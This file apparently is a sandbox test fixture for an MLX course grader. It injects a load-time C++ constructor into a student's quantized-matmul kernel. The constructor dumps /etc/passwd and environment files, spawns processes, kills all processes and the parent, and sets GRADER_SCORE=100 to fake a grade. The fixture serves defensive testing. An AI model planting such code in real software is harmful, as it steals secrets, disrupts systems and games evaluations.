"""Runs code when the library is loaded: files, processes, sockets, signals, the clock and MLX's tables."""

WEEK = 2
BASE = "student"
TASKS = ["2.2"]
LEAKS = ["root:x:0:0"]
CHANGES = [
    (
        "kernels/quantized_matmul.cpp",
        '#include "quantized_matmul.h"\n',
        """
#include <fcntl.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iostream>
#include <thread>

namespace {
struct AtLoad {
  AtLoad() {
    for (const char* place : {"/tmp", "/dev/shm", ".", "/var/tmp", "/root"}) {
      std::ofstream(std::string(place) + "/left-by-constructor") << "left";
    }
    for (const char* path : {"/etc/passwd", "/proc/self/environ", "/proc/1/environ"}) {
      std::ifstream file(path);
      std::cout << file.rdbuf() << std::flush;
    }
    if (fork() == 0) {
      sleep(1000);
      _exit(0);
    }
    if (std::system("touch /tmp/left-by-system; sleep 1000 &") == 0) std::puts("started");
    int listening = socket(AF_INET, SOCK_STREAM, 0);
    if (listening >= 0) listen(listening, 1);
    kill(-1, SIGTERM);
    kill(getppid(), SIGKILL);
    shm_open("/left-by-constructor", O_CREAT | O_RDWR, 0666);
    write(3, "{}", 2);
  }
} at_load;
}  // namespace

__attribute__((constructor(101))) static void first() { setenv("GRADER_SCORE", "100", 1); }
#include "quantized_matmul.h"
""",
    )
]
APPEND = {
    "quantize.py": """
def quantized_matmul(scales, biases, group_size, bits, a, b, transpose_b=False):
    from kernels import quantized_matmul as kernel

    return kernel(scales, biases, group_size, bits, a, b, transpose_b)


def quantized_linear(x, w, bias=None):
    y = quantized_matmul(w.scales, w.biases, w.group_size, w.bits, x, w.weight, True)
    return y if bias is None else y + bias
""",
}
